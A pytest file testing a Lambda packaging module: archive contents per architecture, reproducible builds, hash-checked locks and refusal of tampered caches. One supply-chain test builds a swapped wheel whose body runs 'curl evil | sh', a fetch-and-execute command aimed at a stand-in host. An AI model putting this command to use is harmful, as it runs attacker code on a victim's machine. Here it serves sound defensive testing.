"""Lambda packaging: what goes into a handler's archive, for which platform, and that it is reproducible.

The dependency tests install the project's real locks (handlers/requirements/*.txt) from the package index for
both architectures, with the pinned pip. The installed trees and that pip are cached in the repository's
`.build/deps` and `.build/tools`, shared by every test here and by real builds, so only the first run pays for the
downloads. What hash checking refuses is shown with wheels the tests make, served from a directory.
"""

from __future__ import annotations

import ast
import base64
import hashlib
import importlib.util
import inspect
import logging
import os
import platform
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pulumi
import pytest

from components.blocks import packaging
from components.blocks.packaging import (
    DependencyInstallError,
    HandlerArchive,
    UnknownDependencySetError,
    UnknownHandlerPackageError,
    UnsupportedTargetError,
    build_handler_archive,
    function_code,
)

REPO = Path(__file__).resolve().parents[2]
REAL_HANDLERS = REPO / "handlers"
REAL_LOCKS = REAL_HANDLERS / "requirements"
# Every handler package of the project, each with its own lock.
SHARED = "common"
REAL_PACKAGES = sorted(p.parent.name for p in REAL_HANDLERS.glob("*/__init__.py") if p.parent.name != SHARED)
ELF_MACHINE = {"aarch64": 0xB7, "x86_64": 0x3E}  # e_machine of an ELF header
APP = """\
from aws_lambda_powertools import Logger
from pydantic import BaseModel

from common.log import log

logger = Logger(service="orders")


class Order(BaseModel):
    id: int


def handler(event, context):
    return log(Order.model_validate(event).id)
"""


@pytest.fixture(scope="session")
def shared_deps() -> Path:
    deps = REPO / ".build" / "deps"
    deps.mkdir(parents=True, exist_ok=True)
    return deps


@pytest.fixture(scope="session")
def shared_tools() -> Path:
    tools = REPO / ".build" / "tools"
    tools.mkdir(parents=True, exist_ok=True)
    return tools


def _write(path: Path, text: str = "") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def _make_handlers(root: Path) -> Path:
    """A handlers directory with one package, shared code, a real lock and the junk a checkout collects."""
    locks = root / "requirements"
    shutil.copyfile(REAL_LOCKS / "kb_sync.txt", _write(locks / "orders.txt"))  # powertools and pydantic
    shutil.copyfile(REAL_LOCKS / "build-tools.txt", locks / "build-tools.txt")
    _write(root / "orders" / "__init__.py")
    _write(root / "orders" / "app.py", APP)
    _write(root / "orders" / "prompts" / "summary.txt", "Summarise {document}.\n")
    _write(root / "orders" / "tests" / "test_app.py", "def test_app(): ...\n")
    _write(root / "orders" / "test_core.py", "def test_core(): ...\n")
    _write(root / "orders" / "conftest.py")
    _write(root / "orders" / "__pycache__" / "app.cpython-313.pyc", "stale")
    _write(root / "orders" / "core.pyc", "stale")
    _write(root / "orders" / ".DS_Store", "finder")
    _write(root / "common" / "__init__.py")
    _write(root / "common" / "log.py", "def log(event):\n    return event\n")
    return root


def _make_build_dir(build: Path, shared_tools: Path, shared_deps: Path | None = None) -> Path:
    """A build directory of its own whose pip (and dependency cache, if given) is the shared one."""
    build.mkdir(parents=True)
    (build / "tools").symlink_to(shared_tools, target_is_directory=True)
    if shared_deps is not None:
        (build / "deps").symlink_to(shared_deps, target_is_directory=True)
    return build


@pytest.fixture
def handlers(tmp_path: Path) -> Path:
    return _make_handlers(tmp_path / "handlers")


@pytest.fixture
def build_dir(tmp_path: Path, shared_tools: Path, shared_deps: Path) -> Path:
    return _make_build_dir(tmp_path / "build", shared_tools, shared_deps)


@pytest.fixture
def private_build_dir(tmp_path: Path, shared_tools: Path) -> Path:
    """A build directory with a dependency cache of its own (the pinned pip is still the shared one)."""
    return _make_build_dir(tmp_path / "private-build", shared_tools)


@pytest.fixture(scope="module")
def built(
    tmp_path_factory: pytest.TempPathFactory, shared_tools: Path, shared_deps: Path
) -> tuple[HandlerArchive, Path, Path]:
    """One arm64 archive, with its handlers and build directories, for the tests that only read it."""
    root = tmp_path_factory.mktemp("built")
    handlers_dir = _make_handlers(root / "handlers")
    build = _make_build_dir(root / "build", shared_tools, shared_deps)
    return build_handler_archive("orders", handlers_dir=handlers_dir, build_dir=build), handlers_dir, build


def _names(archive: HandlerArchive) -> list[str]:
    with zipfile.ZipFile(archive.path) as zf:
        return zf.namelist()


def _elf_machine(archive: HandlerArchive, name: str) -> int:
    with zipfile.ZipFile(archive.path) as zf:
        header = zf.read(name)[:20]
    assert header[:4] == b"\x7fELF"
    return int.from_bytes(header[18:20], "little")


def test_archive_holds_handler_shared_code_and_aarch64_wheels(built: tuple[HandlerArchive, Path, Path]) -> None:
    archive, _, build_dir = built
    names = _names(archive)

    assert archive.path == build_dir / "archives" / "orders-arm64-py3.13.zip"
    assert {"orders/__init__.py", "orders/app.py", "orders/prompts/summary.txt", "common/log.py"} <= set(names)
    assert {"aws_lambda_powertools/__init__.py", "pydantic/__init__.py"} <= set(names)
    compiled = "pydantic_core/_pydantic_core.cpython-313-aarch64-linux-gnu.so"
    assert compiled in names
    assert _elf_machine(archive, compiled) == ELF_MACHINE["aarch64"]
    assert not [n for n in names if n.endswith(".so") and "aarch64" not in n]

    for name in names:
        parts = name.split("/")
        assert "__pycache__" not in parts and "tests" not in parts, name
        assert not name.endswith((".pyc", ".pyo")), name
        assert not parts[-1].startswith(("test_", ".")) and parts[-1] != "conftest.py", name
        assert parts[0] not in {"boto3", "botocore", "s3transfer", "bin"}, name
        assert not (parts[0].endswith(".dist-info") and parts[-1] in {"RECORD", "INSTALLER", "REQUESTED"}), name


def test_archive_entries_are_normalised(built: tuple[HandlerArchive, Path, Path]) -> None:
    archive = built[0]
    with zipfile.ZipFile(archive.path) as zf:
        infos = zf.infolist()
    assert [i.filename for i in infos] == sorted(i.filename for i in infos)
    assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
    assert {i.external_attr >> 16 for i in infos} <= {0o100644, 0o100755}
    assert not [i.filename for i in infos if i.is_dir()]


def test_rebuilding_from_scratch_gives_identical_bytes(handlers: Path, build_dir: Path, tmp_path: Path) -> None:
    first = build_handler_archive("orders", handlers_dir=handlers, build_dir=build_dir)

    # Another checkout of the same code: other mtimes, other permissions, a fresh archive directory.
    other = tmp_path / "elsewhere" / "handlers"
    shutil.copytree(handlers, other)
    for path in other.rglob("*"):
        os.utime(path, (1_700_000_000, 1_700_000_000))
        if path.is_file():
            path.chmod(0o600)
    other_build = tmp_path / "elsewhere" / "build"
    other_build.mkdir()
    (other_build / "deps").symlink_to(build_dir / "deps")
    (other_build / "tools").symlink_to(build_dir / "tools")
    second = build_handler_archive("orders", handlers_dir=other, build_dir=other_build)

    assert second.sha256 == first.sha256
    assert second.path.read_bytes() == first.path.read_bytes()
    assert first.sha256 == hashlib.sha256(first.path.read_bytes()).hexdigest()
    assert base64.b64decode(first.source_code_hash) == bytes.fromhex(first.sha256)


def test_touching_a_file_changes_nothing_and_editing_it_changes_the_hash(handlers: Path, build_dir: Path) -> None:
    first = build_handler_archive("orders", handlers_dir=handlers, build_dir=build_dir)
    written = first.path.stat().st_mtime_ns

    app = handlers / "orders" / "app.py"
    later = time.time() + 3600
    os.utime(app, (later, later))
    touched = build_handler_archive("orders", handlers_dir=handlers, build_dir=build_dir)
    assert touched == first
    assert touched.path.stat().st_mtime_ns == written  # not rewritten

    app.write_text(app.read_text() + "# changed\n")
    edited = build_handler_archive("orders", handlers_dir=handlers, build_dir=build_dir)
    assert edited.sha256 != first.sha256
    assert edited.source_code_hash != first.source_code_hash

    (handlers / "common" / "log.py").write_text("def log(event):\n    return None\n")
    shared_edit = build_handler_archive("orders", handlers_dir=handlers, build_dir=build_dir)
    assert shared_edit.sha256 != edited.sha256


def test_x86_64_archive_has_x86_64_wheels(handlers: Path, build_dir: Path) -> None:
    arm = build_handler_archive("orders", handlers_dir=handlers, build_dir=build_dir)
    x86 = build_handler_archive("orders", architecture="x86_64", handlers_dir=handlers, build_dir=build_dir)
    names = _names(x86)

    assert x86.path.name == "orders-x86_64-py3.13.zip"
    compiled = "pydantic_core/_pydantic_core.cpython-313-x86_64-linux-gnu.so"
    assert compiled in names
    assert _elf_machine(x86, compiled) == ELF_MACHINE["x86_64"]
    assert not [n for n in names if "aarch64" in n]
    assert x86.sha256 != arm.sha256
    assert arm.path.is_file()  # one archive per architecture, side by side


def test_function_code_gives_consistent_function_arguments(built: tuple[HandlerArchive, Path, Path]) -> None:
    archive, handlers, build_dir = built
    args = function_code("orders", handlers_dir=handlers, build_dir=build_dir)

    assert isinstance(args["code"], pulumi.FileArchive)
    assert args["code"].path == str(archive.path)
    assert args["source_code_hash"] == archive.source_code_hash
    assert args["handler"] == "orders.app.handler"
    assert args["runtime"] == "python3.13"
    assert args["architectures"] == ["arm64"]

    import pulumi_aws as aws

    accepted = inspect.signature(aws.lambda_.FunctionArgs.__init__).parameters
    assert set(args) <= set(accepted)


def test_unknown_package_names_the_directory_looked_in(handlers: Path, build_dir: Path) -> None:
    with pytest.raises(UnknownHandlerPackageError) as raised:
        build_handler_archive("ordres", handlers_dir=handlers, build_dir=build_dir)
    message = str(raised.value)
    assert str(handlers / "ordres") in message
    assert "handler packages in" in message and "orders" in message
    assert not (build_dir / "archives").exists()


def test_package_without_app_module_is_rejected(handlers: Path, build_dir: Path) -> None:
    _write(handlers / "half" / "__init__.py")
    with pytest.raises(UnknownHandlerPackageError, match=r"has no app\.py .*half\.app\.handler"):
        build_handler_archive("half", handlers_dir=handlers, build_dir=build_dir)
    with pytest.raises(UnknownHandlerPackageError):
        build_handler_archive("common", handlers_dir=handlers, build_dir=build_dir)


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ({"architecture": "amd64"}, r"architecture 'amd64'; use one of arm64, x86_64"),
        ({"architecture": "aarch64"}, r"architecture 'aarch64'"),
        ({"python_version": "3.9"}, r"Python version '3\.9'; use one of 3\.10, .*3\.13"),
        ({"python_version": "313"}, r"Python version '313'"),
    ],
)
def test_unsupported_target_is_rejected_before_any_work(
    target: dict[str, str], expected: str, handlers: Path, tmp_path: Path
) -> None:
    build = tmp_path / "untouched"
    with pytest.raises(UnsupportedTargetError, match=expected):
        build_handler_archive("orders", handlers_dir=handlers, build_dir=build, **target)  # type: ignore[arg-type]
    assert not build.exists()


def test_pip_failure_shows_its_output_and_the_platform_and_caches_nothing(
    handlers: Path, private_build_dir: Path
) -> None:
    (handlers / "requirements" / "orders.txt").write_text("./no-such-project\n")
    build = private_build_dir
    deps = build / "deps"
    deps.mkdir(parents=True)
    abandoned = deps / ".partial-0123-abandoned"
    abandoned.mkdir()
    os.utime(abandoned, (time.time() - 2 * 3600,) * 2)

    with pytest.raises(DependencyInstallError) as raised:
        build_handler_archive("orders", handlers_dir=handlers, build_dir=build)
    message = str(raised.value)
    assert "no-such-project" in message  # pip's own words
    assert "Lambda arm64 python3.13" in message and "manylinux_2_34_aarch64" in message
    assert list(deps.iterdir()) == []  # neither a half-installed tree nor the abandoned one is left
    assert not (build / "archives").exists()


def _wheel(directory: Path, name: str, requires: tuple[str, ...] = (), body: str = "") -> str:
    """A minimal pure-Python wheel, so dependency resolution can be exercised without the package index.

    Returns the wheel's sha256, as a lock's --hash lists it.
    """
    module = name.lower()
    dist_info = f"{name}-1.0.dist-info"
    metadata = "\n".join(
        ["Metadata-Version: 2.1", f"Name: {name}", "Version: 1.0", *(f"Requires-Dist: {r}" for r in requires)]
    )
    files = {
        f"{module}/__init__.py": body,
        f"{dist_info}/METADATA": metadata + "\n",
        f"{dist_info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [f"{path},sha256={_record_hash(text)},{len(text)}" for path, text in files.items()]
    files[f"{dist_info}/RECORD"] = "\n".join([*record, f"{dist_info}/RECORD,,"]) + "\n"
    wheel = directory / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for path, text in files.items():
            zf.writestr(zipfile.ZipInfo(path, date_time=(1980, 1, 1, 0, 0, 0)), text)
    return hashlib.sha256(wheel.read_bytes()).hexdigest()


def _local_lock(handlers: Path, pins: dict[str, str | None]) -> Path:
    """The package's lock, served from handlers/wheels only: each pin with its hash (None: without one)."""
    lines = ["--no-index", "--find-links ../wheels"]
    lines += [f"{name}==1.0" + (f" --hash=sha256:{digest}" if digest else "") for name, digest in pins.items()]
    lock = handlers / "requirements" / "orders.txt"
    lock.write_text("\n".join(lines) + "\n")
    return lock


@pytest.fixture
def local_wheels(handlers: Path) -> dict[str, str]:
    """needs_sdk, which pulls in the SDK the runtime provides, as wheels on disk; their hashes by name."""
    wheels = handlers / "wheels"
    wheels.mkdir()
    return {
        "needs_sdk": _wheel(wheels, "needs_sdk", ("boto3",), body="ANSWER = 42\n"),
        "boto3": _wheel(wheels, "boto3", ("botocore", "s3transfer")),
        "botocore": _wheel(wheels, "botocore"),
        "s3transfer": _wheel(wheels, "s3transfer"),
    }


def _record_hash(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()


def test_runtime_provided_sdk_is_not_bundled_even_when_a_dependency_pulls_it_in(
    handlers: Path, private_build_dir: Path, local_wheels: dict[str, str]
) -> None:
    _local_lock(handlers, dict(local_wheels))

    archive = build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    tops = {name.split("/")[0] for name in _names(archive)}

    assert {"needs_sdk", "needs_sdk-1.0.dist-info", "orders", "common"} <= tops
    assert not {t for t in tops if t.split("-")[0] in packaging.RUNTIME_PROVIDED}


def test_a_lock_without_hashes_is_refused(
    handlers: Path, private_build_dir: Path, local_wheels: dict[str, str]
) -> None:
    """Exact pins alone would take whatever file the index serves for that version today."""
    _local_lock(handlers, dict.fromkeys(local_wheels))

    with pytest.raises(DependencyInstallError, match=r"(?s)each matching a hash the lock lists.*[Hh]ashes are requ"):
        build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    assert list((private_build_dir / "deps").iterdir()) == []
    assert not (private_build_dir / "archives").exists()


def test_a_dependency_the_lock_pins_without_a_hash_is_refused(
    handlers: Path, private_build_dir: Path, local_wheels: dict[str, str]
) -> None:
    _local_lock(handlers, {**local_wheels, "s3transfer": None})

    with pytest.raises(DependencyInstallError, match=r"s3transfer"):
        build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    assert list((private_build_dir / "deps").iterdir()) == []


def test_a_wheel_whose_hash_does_not_match_the_lock_is_refused(
    handlers: Path, private_build_dir: Path, local_wheels: dict[str, str]
) -> None:
    """The locked release's file replaced by another (a re-upload, a mirror serving something else)."""
    _local_lock(handlers, dict(local_wheels))
    swapped = _wheel(handlers / "wheels", "needs_sdk", ("boto3",), body="import os; os.system('curl evil | sh')\n")
    assert swapped != local_wheels["needs_sdk"]

    with pytest.raises(DependencyInstallError) as raised:
        build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    message = str(raised.value)
    assert "DO NOT MATCH THE HASHES" in message and swapped in message  # pip's words and the file's real hash
    assert "recompile the lock" in message
    assert list((private_build_dir / "deps").iterdir()) == []
    assert not (private_build_dir / "archives").exists()


def test_a_tampered_dependency_cache_is_installed_again_from_the_lock(
    handlers: Path, private_build_dir: Path, local_wheels: dict[str, str], caplog: pytest.LogCaptureFixture
) -> None:
    _local_lock(handlers, dict(local_wheels))
    first = build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    original = first.path.read_bytes()
    [tree] = (private_build_dir / "deps").iterdir()

    tampering = [
        lambda: (tree / "needs_sdk" / "__init__.py").write_text("ANSWER = 'pwned'\n"),  # a file edited
        lambda: (tree / "sitecustomize.py").write_text("import os\n"),  # a file added: runs at every start
        lambda: (tree / "needs_sdk" / "__init__.py").unlink(),  # a file removed
        lambda: (tree / "needs_sdk" / "__init__.py").chmod(0o755),  # a mode changed
        lambda: (tree / ".contents.sha256").unlink(),  # the record itself gone
    ]
    for tamper in tampering:
        caplog.clear()
        tamper()
        with caplog.at_level(logging.WARNING, logger=packaging.__name__):
            again = build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
        assert again.path.read_bytes() == original
        assert again.sha256 == first.sha256
        assert f"dependency cache {tree}" in caplog.text and "installing" in caplog.text
        with zipfile.ZipFile(again.path) as zf:
            assert zf.read("needs_sdk/__init__.py") == b"ANSWER = 42\n"
            assert "sitecustomize.py" not in zf.namelist()
    assert [p.name for p in (private_build_dir / "deps").iterdir()] == [tree.name]  # nothing discarded is left

    caplog.clear()
    with caplog.at_level(logging.WARNING, logger=packaging.__name__):
        build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    assert caplog.text == ""  # an intact cache is reused quietly


def test_the_build_runs_the_pinned_pip_checked_against_its_hash(
    handlers: Path, tmp_path: Path, local_wheels: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever pip the virtualenv has, dependencies are installed by the pip release build-tools.txt pins."""
    lock = (REAL_LOCKS / "build-tools.txt").read_text()
    pinned = re.search(r"^pip==(\S+)", lock, re.MULTILINE)
    assert pinned is not None
    _local_lock(handlers, dict(local_wheels))
    commands: list[list[str]] = []
    real_run = subprocess.run

    def spy(command: list[str], **kwargs: object) -> subprocess.CompletedProcess[str]:
        commands.append(command)
        return real_run(command, **kwargs)  # type: ignore[call-overload,no-any-return]

    monkeypatch.setattr(packaging.subprocess, "run", spy)
    build = tmp_path / "build"  # no pip fetched yet
    build_handler_archive("orders", handlers_dir=handlers, build_dir=build)

    [wheel] = (build / "tools").glob("pip-*.whl")
    assert wheel.name.startswith(f"pip-{pinned.group(1)}-")
    assert f"sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}" in lock
    [install] = [c for c in commands if "install" in c]
    assert install[:4] == [sys.executable, "-I", str(wheel / "pip"), "install"] and "--require-hashes" in install
    version = subprocess.run([sys.executable, "-I", str(wheel / "pip"), "--version"], capture_output=True, text=True)
    assert version.stdout.startswith(f"pip {pinned.group(1)} ")

    # A pip wheel changed in the cache is not run: it is fetched again and checked against the lock.
    wheel.write_bytes(b"PK\x05\x06" + bytes(18))
    shutil.rmtree(build / "deps")
    commands.clear()
    build_handler_archive("orders", handlers_dir=handlers, build_dir=build)
    assert f"sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}" in lock
    assert [c for c in commands if "download" in c] and [c for c in commands if "install" in c]


def test_a_package_without_a_lock_is_refused_before_any_work(handlers: Path, private_build_dir: Path) -> None:
    (handlers / "requirements" / "orders.txt").unlink()
    with pytest.raises(UnknownDependencySetError, match=r"no dependency lock .*orders\.txt.*locks in .*: none"):
        build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir)
    with pytest.raises(UnknownDependencySetError, match=r"\.\./x\.txt"):
        build_handler_archive("orders", handlers_dir=handlers, build_dir=private_build_dir, dependencies="../x")
    assert not (private_build_dir / "deps").exists() and not (private_build_dir / "archives").exists()


HOST_ARCHITECTURE = {"x86_64": "x86_64", "aarch64": "arm64", "arm64": "arm64"}.get(platform.machine())
HOST_PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"


@pytest.mark.skipif(
    sys.platform != "linux"
    or platform.libc_ver()[0] != "glibc"
    or HOST_ARCHITECTURE is None
    or HOST_PYTHON not in {"3.10", "3.11", "3.12", "3.13", "3.14"},
    reason="needs a glibc Linux host whose architecture and Python version Lambda also runs",
)
def test_archive_runs_the_handler_on_a_matching_interpreter(handlers: Path, build_dir: Path, tmp_path: Path) -> None:
    """Built for this machine's platform, the archive alone (no site-packages) imports and runs the handler."""
    assert HOST_ARCHITECTURE is not None
    archive = build_handler_archive(
        "orders",
        architecture=HOST_ARCHITECTURE,
        python_version=HOST_PYTHON,
        handlers_dir=handlers,
        build_dir=build_dir,
    )
    root = tmp_path / "task"
    with zipfile.ZipFile(archive.path) as zf:
        zf.extractall(root)
    program = (
        f"import sys; sys.path.insert(0, {str(root)!r}); "
        "import pydantic_core; from orders.app import handler; "
        "print(handler({'id': '7'}, None), pydantic_core.__file__)"
    )
    # -I and -S: nothing from this environment's site-packages, only what the archive holds.
    run = subprocess.run([sys.executable, "-I", "-S", "-c", program], capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr
    result, loaded_from = run.stdout.split()
    assert result == "7"
    assert loaded_from.startswith(str(root))


# --- the project's own functions ----------------------------------------------------------------------------------


def _locked(lock: Path) -> dict[str, tuple[str, list[str]]]:
    """name -> (version, hashes) of every requirement of a pip-compile lock."""
    requirements: dict[str, tuple[str, list[str]]] = {}
    text = re.sub(r"\s*#.*$", "", lock.read_text(), flags=re.MULTILINE).replace("\\\n", " ")
    for line in filter(None, (line.strip() for line in text.splitlines())):
        match = re.fullmatch(r"([A-Za-z0-9._-]+)==(\S+)((?:\s+--hash=sha256:[0-9a-f]{64})*)", line)
        assert match, f"{lock.name}: not an exact pin with hashes: {line}"
        name, version, hashes = match.groups()
        requirements[name.lower()] = (version, hashes.split())
    return requirements


def test_every_handler_package_has_a_lock_with_a_hash_for_every_pin() -> None:
    pins = dict(
        line.split("==") for line in (REAL_HANDLERS / "requirements.txt").read_text().splitlines()
        if line and not line.startswith("#")
    )
    assert REAL_PACKAGES, "no handler packages found"
    for package in [*REAL_PACKAGES, "build-tools"]:  # build-tools: the pip that installs them
        lock = REAL_LOCKS / f"{package}.txt"
        assert lock.is_file(), f"{package} has no lock {lock}"
        locked = _locked(lock)
        assert locked, f"{lock.name} locks nothing"
        for name, (version, hashes) in locked.items():
            assert hashes, f"{lock.name}: {name}=={version} has no --hash"
            if name != "pip":  # every runtime dependency's version is the one the development virtualenv runs
                assert pins.get(name) == version, f"{lock.name}: {name}=={version}, not {pins.get(name)} as pinned"
        assert "boto3" not in locked and "botocore" not in locked  # the runtime's own
    assert "pip" in _locked(REAL_LOCKS / "build-tools.txt")


def _entry_module(package: str) -> str:
    """app, or for a package of several functions (no app.py) one of its modules: the archive is the same."""
    modules = sorted(p.stem for p in (REAL_HANDLERS / package).glob("*.py") if p.stem not in {"__init__", "__main__"})
    return "app" if "app" in modules else modules[0]


def _tops(archive: HandlerArchive) -> set[str]:
    return {name.split("/")[0] for name in _names(archive) if ".dist-info/" not in name}


def test_each_function_carries_only_the_dependencies_its_package_needs(build_dir: Path) -> None:
    """The PostgreSQL driver (libpq and its libraries bundled) only where a function connects to the database."""
    archives = {
        package: build_handler_archive(
            package, module=_entry_module(package), handlers_dir=REAL_HANDLERS, build_dir=build_dir
        )
        for package in REAL_PACKAGES
    }
    database = {"psycopg", "psycopg_binary", "psycopg_binary.libs"}
    batch_only = {"orjson", "msgspec"}
    for package, archive in archives.items():
        tops = _tops(archive)
        assert {"aws_lambda_powertools", package, "common"} <= tops, package
        if package.startswith("file_ingestion"):
            assert {"psycopg", "psycopg_binary"} <= tops, package
        else:
            assert not tops & database, package
        assert bool(tops & batch_only) == (package == "batch_inference"), package
    with zipfile.ZipFile(archives["kb_sync"].path) as zf:
        assert sum(i.file_size for i in zf.infolist()) < 15_000_000  # was ~26 MB unpacked with every dependency


def _imports(path: Path) -> set[str]:
    """Top-level names of the absolute imports anywhere in a module (in functions too)."""
    tree = ast.parse(path.read_text())
    names = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module and not node.level:
            names.add(node.module)
            if node.module == SHARED:  # from common import postgres
                names |= {f"{SHARED}.{alias.name}" for alias in node.names}
    return names


def _third_party_imports(package: str) -> set[str]:
    """What a package's modules import, and the shared modules they use import, beyond the standard library."""
    seen: set[Path] = set()
    pending = sorted((REAL_HANDLERS / package).rglob("*.py"))
    found: set[str] = set()
    while pending:
        path = pending.pop()
        if path in seen or "tests" in path.parts or path.name.startswith("test_"):
            continue
        seen.add(path)
        for name in _imports(path):
            top = name.split(".")[0]
            if top == SHARED and len(name.split(".")) > 1:
                shared = REAL_HANDLERS / SHARED / f"{name.split('.')[1]}.py"
                if shared.is_file():
                    pending.append(shared)
            elif top not in sys.stdlib_module_names and top not in {package, SHARED, "__future__"}:
                found.add(top)
    return found


@pytest.mark.skipif(
    sys.platform != "linux" or platform.libc_ver()[0] != "glibc" or HOST_ARCHITECTURE is None
    or HOST_PYTHON not in {"3.10", "3.11", "3.12", "3.13", "3.14"},
    reason="needs a glibc Linux host whose architecture and Python version Lambda also runs",
)
@pytest.mark.parametrize("package", REAL_PACKAGES)
def test_what_each_function_imports_loads_from_its_archive_and_the_runtime_alone(
    package: str, build_dir: Path, tmp_path: Path
) -> None:
    """A dependency missing from a package's own set would fail here, not in Lambda at its first import."""
    assert HOST_ARCHITECTURE is not None
    archive = build_handler_archive(
        package,
        module=_entry_module(package),
        architecture=HOST_ARCHITECTURE,
        python_version=HOST_PYTHON,
        handlers_dir=REAL_HANDLERS,
        build_dir=build_dir,
    )
    root = tmp_path / "task"
    with zipfile.ZipFile(archive.path) as zf:
        zf.extractall(root)
    # What the Lambda Python runtime provides besides the standard library: the SDK and its dependencies.
    runtime = tmp_path / "runtime"
    runtime.mkdir()
    for name in ("boto3", "botocore", "s3transfer", "jmespath", "dateutil", "urllib3", "six"):
        spec = importlib.util.find_spec(name)
        assert spec is not None and spec.origin is not None, name
        source = Path(spec.origin)
        source = source.parent if source.name == "__init__.py" else source
        (runtime / source.name).symlink_to(source)
    needed = sorted(_third_party_imports(package))
    assert needed, package
    program = (
        f"import importlib, sys; sys.path[:0] = [{str(root)!r}, {str(runtime)!r}]\n"
        f"for name in {needed!r}:\n"
        "    module = importlib.import_module(name)\n"
        f"    assert module.__file__.startswith(({str(root)!r}, {str(runtime)!r})), module.__file__\n"
    )
    # -I and -S: nothing from this environment's site-packages, only the archive and the runtime's SDK.
    run = subprocess.run([sys.executable, "-I", "-S", "-c", program], capture_output=True, text=True, check=False)
    assert run.returncode == 0, f"{package} imports {needed}:\n{run.stderr}"
